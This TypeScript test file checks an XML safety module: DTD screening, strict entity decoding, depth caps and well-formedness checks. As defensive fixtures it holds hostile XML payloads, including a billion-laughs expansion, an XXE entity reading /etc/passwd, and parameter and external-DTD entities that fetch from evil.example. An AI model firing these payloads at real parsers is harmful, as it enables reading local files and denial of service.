import { describe, expect, it } from 'vitest';
import { createXmlParser, decodeXmlReferences, screenDtd, XmlReferenceError, xmlWellFormedness } from '../../../src/xml/index.ts';

const LAUGHS = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><r>&lol2;</r>';
const XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>';
const PARAMETER = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><r/>';
const EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>';
const ASSIST_DTD = '<?xml version="1.0"?><!DOCTYPE result [ <!ELEMENT result (order*)> <!ATTLIST result firstcode CDATA #REQUIRED> ]><result firstcode="0"/>';

describe('the DTD policy', () => {
  it.each([
    ['billion laughs', LAUGHS],
    ['external entity (XXE)', XXE],
    ['parameter entity', PARAMETER],
    ['external DTD', EXTERNAL_DTD],
    ['a bare DOCTYPE', '<!DOCTYPE r><r/>'],
    ['a lower-case doctype', '<!doctype r><r/>'],
    ['a stray ENTITY', '<!ENTITY a "b"><r/>'],
    ['a DOCTYPE after the root', '<r/><!DOCTYPE r>'],
  ])('refuses %s outright', (_name, text) => {
    expect(screenDtd(text)).toMatchObject({ ok: false });
  });

  it('says which declaration and where', () => {
    expect(screenDtd(XXE)).toEqual({ ok: false, declaration: 'DOCTYPE', offset: 21 });
    expect(screenDtd('<r/><!entity x "y">')).toEqual({ ok: false, declaration: 'ENTITY', offset: 4 });
  });

  it('passes text without a DTD untouched', () => {
    expect(screenDtd('<r a="1">x</r>')).toEqual({ ok: true, text: '<r a="1">x</r>' });
  });

  it('drop-entity-free removes an entity-free internal subset unread (the Assist exception)', () => {
    const screened = screenDtd(ASSIST_DTD, 'drop-entity-free');
    expect(screened).toEqual({ ok: true, text: '<?xml version="1.0"?><result firstcode="0"/>' });
  });

  it.each([
    ['billion laughs', LAUGHS],
    ['XXE', XXE],
    ['parameter entity', PARAMETER],
    ['two DOCTYPEs', '<!DOCTYPE a><!DOCTYPE b><r/>'],
    ['an ENTITY outside any DOCTYPE', '<!DOCTYPE r><!ENTITY x "y"><r/>'],
  ])('drop-entity-free still refuses %s', (_name, text) => {
    expect(screenDtd(text, 'drop-entity-free')).toMatchObject({ ok: false });
  });
});

describe('references', () => {
  it('decodes the five predefined entities and character references only', () => {
    expect(decodeXmlReferences('&lt;&gt;&amp;&quot;&apos; &#65;&#x42;&#x1F600;')).toBe(`<>&"' AB\u{1F600}`);
  });

  it.each([
    ['&', 'bare-ampersand', '&'],
    ['a & b', 'bare-ampersand', '&'],
    ['&lt', 'bare-ampersand', '&'],
    ['&xxe;', 'unknown-entity', '&xxe;'],
    ['&AMP;', 'unknown-entity', '&AMP;'],
    ['&#0;', 'bad-character-reference', '&#0;'],
    ['&#xD800;', 'bad-character-reference', '&#xD800;'],
    ['&#x110000;', 'bad-character-reference', '&#x110000;'],
  ])('strict: %s is refused as %s', (text, problem, reference) => {
    expect(() => decodeXmlReferences(text)).toThrow(XmlReferenceError);
    try {
      decodeXmlReferences(text);
    } catch (error) {
      expect(error).toMatchObject({ problem, reference });
    }
  });

  it('lenient: what is not decoded stays the text it is, never expanded', () => {
    expect(decodeXmlReferences('&xxe; &amp; & &#0;', 'lenient')).toBe('&xxe; & & &#0;');
  });
});

describe('the parser', () => {
  it('never expands entities, even when a DTD slipped past the screen', () => {
    const parser = createXmlParser({ shape: 'grouped', maxDepth: 10 });
    const tree = parser.parse('<!DOCTYPE r [<!ENTITY x "boom">]><r>&x;</r>') as Record<string, unknown>;
    expect(JSON.stringify(tree)).not.toContain('boom');
  });

  it('keeps values as text (no number typing): 18-digit ids and leading zeros survive', () => {
    const parser = createXmlParser({ shape: 'grouped', maxDepth: 10 });
    expect(parser.parse('<r a="007"><id>123456789012345678</id></r>')).toEqual({ r: { '@_a': '007', id: '123456789012345678' } });
  });

  it('caps the depth', () => {
    const parser = createXmlParser({ shape: 'ordered', maxDepth: 3 });
    expect(() => parser.parse('<a><b><c>1</c></b></a>')).not.toThrow();
    expect(() => parser.parse('<a><b><c><d><e>1</e></d></c></b></a>')).toThrow(/nested/);
  });

  it('shapes: ordered keeps document order, grouped-local drops namespace prefixes', () => {
    const ordered = createXmlParser({ shape: 'ordered', maxDepth: 10 }).parse('<r><b>1</b><a>2</a></r>') as unknown[];
    expect(JSON.stringify(ordered)).toBe('[{"r":[{"b":[{"#text":"1"}]},{"a":[{"#text":"2"}]}]}]');
    const local = createXmlParser({ shape: 'grouped-local', maxDepth: 10 }).parse('<s:Env xmlns:s="u"><s:Body> x </s:Body></s:Env>');
    expect(local).toEqual({ Env: { Body: 'x' } });
  });

  it('well-formedness is reported with its line', () => {
    expect(xmlWellFormedness('<r><a></r>')).toMatchObject({ line: 1 });
    expect(xmlWellFormedness('<r/>')).toBeUndefined();
  });

  // Found by the Elsom gateway's fuzz campaign: the validator let a NUL through, and it reached the database.
  it('a character outside XML\'s Char production is not well-formed; tab, CR, LF and astral letters are', () => {
    expect(xmlWellFormedness('<r>\n<a>1\u00002</a></r>')).toEqual({ message: 'character U+0000 is not allowed in XML', line: 2 });
    expect(xmlWellFormedness('<r a="\u0001"/>')?.message).toBe('character U+0001 is not allowed in XML');
    expect(xmlWellFormedness('<r>\ufffe</r>')?.message).toBe('character U+FFFE is not allowed in XML');
    expect(xmlWellFormedness('<r>\ud800</r>')?.message).toBe('character U+D800 is not allowed in XML');
    expect(xmlWellFormedness('<r>\t\r\n😀 тест</r>')).toBeUndefined();
  });
});
